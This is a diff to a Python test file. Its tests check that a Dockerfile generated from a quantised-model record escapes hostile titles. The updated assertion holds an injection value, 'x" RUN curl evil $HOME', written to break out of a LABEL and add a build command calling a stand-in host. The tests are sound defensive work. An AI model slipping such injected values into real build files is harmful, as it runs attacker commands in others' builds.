@@ -42,11 +42,12 @@ def winner(tmp_path):
         "study": f"study {EVIL}",
         "model": EVIL,
         "hardware": EVIL,
-        "status": "met",
+        "status": "pass",
         "context": 512,
         "device": device,
         "goal": {"constraints": []},
         "winner": {
+            "name": "llama.cpp Q4_K_M",
             "recipe": Recipe("Q4_K_M").as_json(),
             "artifact": {"sha256": "ab" * 32, "bytes": 10**8, "path": "model.gguf"},
             "measurements": [peak | {"how": "measured"}],
@@ -86,7 +87,8 @@ def test_a_title_adds_no_line_to_a_dockerfile(winner):
     assert "\x1b" not in text
     label = re.search(r'description=("(?:\\.|[^"\\])*") ', joined)[1]
     assert not re.search(r"(?<!\\)\$", label), "no variable of the build's"
-    assert re.sub(r"\\(.)", r"\1", label[1:-1]).startswith('Q4_K_M of x" RUN curl evil $HOME')
+    plain = re.sub(r"\\(.)", r"\1", label[1:-1])
+    assert plain.startswith('llama.cpp Q4_K_M of x" RUN curl evil $HOME')
 
 
 def test_a_title_is_no_markup(winner):
